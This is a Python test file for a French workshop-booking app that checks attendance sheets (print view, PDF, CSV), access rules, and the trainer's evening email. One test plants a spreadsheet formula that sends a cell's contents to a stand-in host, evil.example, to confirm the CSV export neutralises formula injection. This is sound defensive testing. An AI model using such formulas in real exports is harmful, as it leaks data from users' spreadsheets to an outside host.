"""The attendance sheet in its three forms (print view, PDF, CSV), who may open it, and the
trainer's list mailed the evening before with the sheet attached."""

import csv
import html
import io
import re
import shutil
import subprocess
from datetime import UTC, datetime

import pytest
import sqlalchemy as sa

from app.attendance import sheets, trainer_list
from app.attendance.models import Attendance, Presence
from app.booking import services as booking
from app.booking.models import Notice, Registration, RegistrationStatus
from app.catalog.models import WorkshopStatus
from app.extensions import db
from app.formatting import PARIS
from app.mail.delivery import deliver_pending
from app.mail.models import OutboxMail
from app.spreadsheet import neutralise
from tests.conftest import login, require

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez ici")'


def paris(*args) -> datetime:
    return datetime(*args, tzinfo=PARIS)


def pdf_text(data: bytes, *pages: int) -> str:
    """The text of a PDF, read back by poppler's pdftotext (of `pages` first to last, if given)."""
    require(
        shutil.which("pdftotext") is not None, "pdftotext missing: apt-get install poppler-utils"
    )
    assert data.startswith(b"%PDF-")
    bounds = ["-f", str(pages[0]), "-l", str(pages[-1])] if pages else []
    result = subprocess.run(
        ["pdftotext", "-enc", "UTF-8", *bounds, "-", "-"],
        input=data,
        capture_output=True,
        check=True,
    )
    return result.stdout.decode("utf-8")


def pdf_info(data: bytes) -> dict[str, str]:
    """What poppler's pdfinfo says of a PDF: {"Pages": "1", "Page size": "… (A4)", …}."""
    require(shutil.which("pdfinfo") is not None, "pdfinfo missing: apt-get install poppler-utils")
    result = subprocess.run(["pdfinfo", "-"], input=data, capture_output=True, check=True)
    lines = result.stdout.decode("utf-8").splitlines()
    return dict((key, value.strip()) for key, _, value in (line.partition(":") for line in lines))


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8").removeprefix("\ufeff")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def add_registration(
    workshop,
    last_name,
    first_name="Léa",
    *,
    status=RegistrationStatus.confirmed,
    school="École Jules Ferry",
    position=None,
):
    """A registration written directly (a walk-in, or many people at once)."""
    registration = Registration(
        workshop_id=workshop.id,
        last_name=last_name,
        first_name=first_name,
        email=f"{first_name}.{last_name}.{workshop.id}@ac-amiens.fr".lower(),
        school=school,
        status=status,
        waiting_position=position,
    )
    db.session.add(registration)
    db.session.commit()
    return registration


@pytest.fixture
def session(make_site, make_workshop, applicant, clock):
    """Wednesday 11 March 2026, 9 h – 12 h, in Amiens, three seats: taken, plus a walk-in and
    one person waiting."""
    amiens = make_site(slug="amiens", name="Amiens")
    workshop = make_workshop(
        capacity=3,
        site=amiens,
        title="Le TBI en classe",
        starts_in=paris(2026, 3, 11, 9) - clock.now,
    )
    booking.register(workshop.id, applicant(1, last_name="L'Hôte-Dupré", first_name="Zoé"))
    booking.register(workshop.id, applicant(2, last_name="<b>Gras</b>", first_name="Hugo"))
    booking.register(
        workshop.id, applicant(3, last_name="Écart", first_name="Inès", uai="0801234A")
    )
    booking.register(workshop.id, applicant(4, last_name="Bernard", first_name="Paul"))  # waiting
    add_registration(workshop, "Zola", "Émile", status=RegistrationStatus.walk_in)
    return workshop


@pytest.fixture
def trainer_of(make_staff):
    def make(workshop):
        return make_staff("trainer", trainer=workshop.trainer)

    return make


def base(workshop) -> str:
    return f"/formateur/seances/{workshop.id}"


# --- one source ------------------------------------------------------------------------------


def test_the_sheet_lists_confirmed_people_by_name_then_walk_ins_and_the_waiting_list_apart(session):
    sheet = sheets.sheet(session)

    # Accents set aside, on every database: "Écart" sorts with the E, not after "Zola".
    assert [r.last_name for r in sheet.people] == ["<b>Gras</b>", "Écart", "L'Hôte-Dupré", "Zola"]
    assert [r.last_name for r in sheet.walk_ins] == ["Zola"]
    assert [(r.last_name, r.waiting_position) for r in sheet.waiting] == [("Bernard", 1)]
    assert not sheet.marked


def test_the_trainers_session_page_lists_people_in_the_sheets_order(client, session, trainer_of):
    login(client, trainer_of(session))

    page = client.get(base(session)).get_data(as_text=True)

    # The tablet and the printed sheet agree: "Écart" with the E on SQLite too.
    positions = [
        page.index(name)
        for name in ("&lt;b&gt;Gras&lt;/b&gt;", "Écart", "L&#39;Hôte-Dupré", "Zola")
    ]
    assert positions == sorted(positions)


# --- PDF ---------------------------------------------------------------------------------------


def test_the_pdf_is_a_real_a4_sheet_with_the_names_as_text(client, session, trainer_of):
    login(client, trainer_of(session))

    response = client.get(f"{base(session)}/emargement.pdf")

    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    assert (
        response.headers["Content-Disposition"]
        == 'attachment; filename="emargement-2026-03-11-amiens.pdf"'
    )
    text = pdf_text(response.data)
    for expected in (
        "Feuille d'émargement",
        "Le TBI en classe",
        "mercredi 11 mars 2026",
        "9 h – 12 h",
        "Amiens – 45 rue Saint-Leu, 80026 Amiens",
        "Salle multimédia",
        "Claire Dumont",
        "Nom",
        "Prénom",
        "École",
        "Signature",
        "Signature du formateur",
        "Zoé",
        "L'Hôte-Dupré",
        "<b>Gras</b>",
        "Écart",
        "Émile",
        "venu·e sans inscription",
        "Liste d'attente (1)",
        "Bernard",
        "Page 1 sur 1",
    ):
        assert expected in text, expected
    info = pdf_info(response.data)
    assert "(A4)" in info["Page size"] and info["Pages"] == "1"


def test_a_long_sheet_numbers_its_pages_and_names_the_session_on_each(app, session):
    session.room.capacity = session.capacity = 40
    db.session.commit()
    for n in range(35):
        add_registration(session, f"Martin{n:02d}")

    data = sheets.pdf(sheets.sheet(session))

    pages = int(pdf_info(data)["Pages"])
    assert pages >= 2
    assert f"Page 1 sur {pages}" in pdf_text(data, 1)
    last_page = pdf_text(data, pages)
    assert f"Page {pages} sur {pages}" in last_page
    assert "Le TBI en classe – mercredi 11 mars 2026" in last_page  # the running header
    assert "Signature" in last_page  # the column headings again
    assert "Signature du formateur" in last_page
    assert "Le TBI en classe – mercredi" not in pdf_text(data, 1)  # page 1 has the full header


# --- print view --------------------------------------------------------------------------------


def test_the_print_view_escapes_names_and_hides_its_button_in_print(client, session, trainer_of):
    login(client, trainer_of(session))

    response = client.get(f"{base(session)}/emargement")

    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "&lt;b&gt;Gras&lt;/b&gt;" in page and "<b>Gras</b>" not in page
    assert "L&#39;Hôte-Dupré" in page and "Zoé" in page
    # The styles are a file (the Content-Security-Policy refuses a <style> block), shared with the PDF.
    assert re.search(r'<link rel="stylesheet" href="/static/sheet\.css\?v=\w+">', page)
    with client.get("/static/sheet.css") as response:
        css = response.get_data(as_text=True)
    assert "size: A4" in css and '"Page " counter(page) " sur " counter(pages)' in css
    assert "@media print { .toolbar { display: none; }" in css
    assert 'id="imprimer" data-print>Imprimer</button>' in page
    # Landmarks: the toolbar is a navigation, the sheet itself the main content.
    assert re.search(r'<nav class="toolbar" aria-label="[^"]+">', page)
    assert page.count("<main>") == 1 and page.index("</nav>") < page.index("<main>")
    assert page.index("<h1>Feuille d'émargement</h1>") > page.index("<main>")
    assert page.index("Liste d'attente (") < page.index("</main>")
    assert "<script" not in page.replace('<script src="/static/forms.js', "")
    assert page.count("<tr><td></td><td></td><td></td><td></td></tr>") == sheets.BLANK_LINES
    assert "mercredi 11 mars 2026" in page and "9 h – 12 h" in page


def test_the_trainers_list_sets_today_s_sessions_apart_first(
    client, make_workshop, make_staff, clock
):
    """Wednesday 11 March, 8 h 30 in Paris: today's two sessions (one this morning, already
    over by the afternoon, one after school) head the list, with their check-in at hand."""
    clock.set(paris(2026, 3, 11, 8, 30))
    morning = make_workshop(title="Le TBI le matin", starts_in=paris(2026, 3, 11, 9) - clock.now)
    trainer = morning.trainer
    evening = make_workshop(
        title="L'ENT après la classe", trainer=trainer, starts_in=paris(2026, 3, 11, 17) - clock.now
    )
    tomorrow = make_workshop(
        title="Tablettes demain", trainer=trainer, starts_in=paris(2026, 3, 12, 9) - clock.now
    )
    login(client, make_staff("trainer", trainer=trainer))

    clock.set(paris(2026, 3, 11, 15))  # the morning session is over, still today's
    page = html.unescape(client.get("/formateur/").get_data(as_text=True))
    today = page[page.index('<section class="sessions-today"') : page.index("</section>")]
    assert '<h2 id="aujourdhui">Aujourd\'hui</h2>' in today
    assert today.index("Le TBI le matin") < today.index("L'ENT après la classe")
    assert "Tablettes demain" not in today
    for workshop in (morning, evening):
        assert f'href="/formateur/seances/{workshop.id}/pointage"' in today
    rows = re.findall(
        r"<tr( class=\"is-today\")?>\s*<td>(.*?)</td>\s*<td><a [^>]*>([^<]*)</a>", page
    )
    assert [(bool(marked), title) for marked, _, title in rows] == [
        (True, "Le TBI le matin"),
        (True, "L'ENT après la classe"),
        (False, "Tablettes demain"),
    ]
    assert all("Aujourd'hui" in cell for marked, cell, _ in rows if marked)

    clock.set(paris(2026, 3, 12, 8))  # the next morning
    page = html.unescape(client.get("/formateur/").get_data(as_text=True))
    today = page[page.index('<section class="sessions-today"') : page.index("</section>")]
    assert "Tablettes demain" in today and "Le TBI le matin" not in today
    assert tomorrow.id and "is-today" in page


def test_the_session_page_links_to_the_three_forms(client, session, trainer_of):
    login(client, trainer_of(session))

    page = client.get(base(session)).get_data(as_text=True)

    for link in ("/emargement", "/emargement.pdf", "/participants.csv"):
        assert f'href="{base(session)}{link}"' in page


# --- CSV ---------------------------------------------------------------------------------------


def test_the_csv_opens_in_a_french_spreadsheet(client, session, trainer_of):
    add_registration(
        session, HYPERLINK, "+33 6 12", status=RegistrationStatus.walk_in, school="@école"
    )
    login(client, trainer_of(session))

    response = client.get(f"{base(session)}/participants.csv")

    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response.headers["Content-Disposition"]
        == 'attachment; filename="participants-2026-03-11-amiens.csv"'
    )
    rows = read_csv(response.data)
    assert rows[0] == [
        "Nom",
        "Prénom",
        "École",
        "UAI",
        "Statut",
    ]  # no marks yet: no presence column
    assert rows[1:] == [
        ["<b>Gras</b>", "Hugo", "École Jules Ferry", "", "Inscription confirmée"],
        ["Écart", "Inès", "École Jules Ferry", "0801234A", "Inscription confirmée"],
        ["L'Hôte-Dupré", "Zoé", "École Jules Ferry", "", "Inscription confirmée"],
        ["'" + HYPERLINK, "'+33 6 12", "'@école", "", "Venu·e sans inscription"],
        ["Zola", "Émile", "École Jules Ferry", "", "Venu·e sans inscription"],
        ["Bernard", "Paul", "École Jules Ferry", "", "En liste d'attente"],
    ]


def test_the_csv_has_a_presence_column_once_attendance_is_taken(app, session):
    sheet = sheets.sheet(session)
    zoe, gras = sheet.people[2], sheet.people[0]
    for registration, presence in ((zoe, Presence.present), (gras, Presence.absent)):
        db.session.add(
            Attendance(
                registration_id=registration.id,
                workshop_id=session.id,
                presence=presence,
                tapped_at_ms=1,
            )
        )
    db.session.commit()

    rows = read_csv(sheets.csv_bytes(sheets.sheet(session)))

    assert rows[0][-1] == "Présence"
    assert {row[0]: row[-1] for row in rows[1:]} == {
        "<b>Gras</b>": "Absent·e",
        "Écart": "",
        "L'Hôte-Dupré": "Présent·e",
        "Zola": "",
        "Bernard": "",
    }


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_cells_a_spreadsheet_would_run_are_neutralised(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Martin", "L'Hôte-Dupré", "", "1+1", "Jean-Marc"])
def test_other_cells_are_kept(cell):
    assert neutralise(cell) == cell


# --- access ------------------------------------------------------------------------------------

FORMATS = ["/emargement", "/emargement.pdf", "/participants.csv"]


@pytest.mark.parametrize("suffix", FORMATS)
def test_anonymous_visitors_are_sent_to_the_login_page(client, session, suffix):
    response = client.get(base(session) + suffix)

    assert response.status_code == 302
    assert response.headers["Location"].startswith("/connexion?next=")


@pytest.mark.parametrize("suffix", FORMATS)
def test_another_trainer_gets_403_and_a_coordinator_sees_it(
    client, session, make_staff, trainer_of, suffix
):
    login(client, make_staff("trainer"))
    assert client.get(base(session) + suffix).status_code == 403
    client.post("/deconnexion")

    login(client, make_staff("coordinator"))
    assert client.get(base(session) + suffix).status_code == 200
    client.post("/deconnexion")

    login(client, trainer_of(session))
    assert client.get(base(session) + suffix).status_code == 200


@pytest.mark.parametrize("suffix", FORMATS)
def test_unknown_and_draft_sessions_are_not_found(client, make_workshop, make_staff, suffix):
    draft = make_workshop(status=WorkshopStatus.draft)
    login(client, make_staff("coordinator"))

    assert client.get(f"/formateur/seances/{draft.id}{suffix}").status_code == 404
    assert client.get(f"/formateur/seances/999999{suffix}").status_code == 404


# --- the trainer's list, the evening before --------------------------------------------------


def trainer_lists() -> list[OutboxMail]:
    return list(
        db.session.scalars(
            sa.select(OutboxMail)
            .where(OutboxMail.template == "attendance/trainer_list")
            .order_by(OutboxMail.id)
        )
    )


def test_trainer_gets_the_list_the_evening_before_once(session, clock):
    clock.set(paris(2026, 3, 10, 17, 59))
    assert trainer_list.send_trainer_lists().sent == 0
    clock.set(paris(2026, 3, 10, 18))
    assert trainer_list.send_trainer_lists().sent == 1
    assert trainer_list.send_trainer_lists().sent == 0

    [mail] = trainer_lists()
    assert mail.recipient == "claire.dumont@ac-amiens.fr"
    assert mail.subject == "Demain : Le TBI en classe – 3 inscrit·es"
    assert "Inscrit·es (3 sur 3 places)" in mail.body_text
    assert "- L'Hôte-Dupré Zoé, École Jules Ferry" in mail.body_text
    assert "1. Bernard Paul" in mail.body_text
    assert f"http://ateliers.test/formateur/seances/{session.id}" in mail.body_text
    assert f'href="http://ateliers.test/formateur/seances/{session.id}"' in mail.body_html
    assert "L&#39;Hôte-Dupré" in mail.body_html and "&lt;b&gt;Gras&lt;/b&gt;" in mail.body_html
    [attachment] = mail.attachments
    assert (attachment.filename, attachment.content_type) == (
        "emargement-2026-03-11-amiens.pdf",
        "application/pdf",
    )
    assert db.session.scalar(sa.select(Notice.key)) == f"liste-formateur:workshop:{session.id}"


def test_the_evening_mail_reaches_the_trainer_with_the_sheet_attached(session, clock, smtp):
    clock.set(paris(2026, 3, 10, 18, 5))
    trainer_list.send_trainer_lists()
    deliver_pending()

    [message] = smtp.to("claire.dumont@ac-amiens.fr")
    assert message["Subject"] == "Demain : Le TBI en classe – 3 inscrit·es"
    body = message.get_body(preferencelist=("plain",)).get_content()
    assert f"http://ateliers.test/formateur/seances/{session.id}" in body
    [pdf] = [part for part in message.walk() if part.get_content_type() == "application/pdf"]
    assert pdf.get_filename() == "emargement-2026-03-11-amiens.pdf"
    assert pdf.get_content_disposition() == "attachment"
    text = pdf_text(pdf.get_content())
    for expected in (
        "Feuille d'émargement",
        "Le TBI en classe",
        "Zoé",
        "L'Hôte-Dupré",
        "<b>Gras</b>",
        "Page 1 sur 1",
    ):
        assert expected in text, expected


def test_a_cancelled_workshop_gets_no_list(session, clock):
    session.status = WorkshopStatus.cancelled
    db.session.commit()

    clock.set(paris(2026, 3, 10, 18))
    assert not trainer_list.send_trainer_lists()

    assert trainer_lists() == []
    assert db.session.scalar(sa.select(Notice.id)) is None


def test_a_list_found_too_late_is_dropped_and_logged(session, clock, caplog):
    clock.set(paris(2026, 3, 11, 7, 30))  # the scheduler was down all evening

    report = trainer_list.send_trainer_lists()

    assert (report.sent, report.dropped) == (0, 1)
    assert trainer_lists() == []
    assert db.session.scalar(sa.select(Notice.dropped)) is True
    assert "trainer list of workshop" in caplog.text
    assert not trainer_list.send_trainer_lists()  # logged once


def test_the_list_time_is_right_across_the_march_change(make_workshop, clock):
    # Monday 30 March 2026: the list is due Sunday 29 March, the change day, at 18 h CEST.
    make_workshop(starts_in=paris(2026, 3, 30, 9) - clock.now)

    clock.set(datetime(2026, 3, 29, 15, 59, tzinfo=UTC))  # 17 h 59 in Paris, summer time
    assert trainer_list.send_trainer_lists().sent == 0
    clock.set(datetime(2026, 3, 29, 16, 0, tzinfo=UTC))  # 18 h
    assert trainer_list.send_trainer_lists().sent == 1
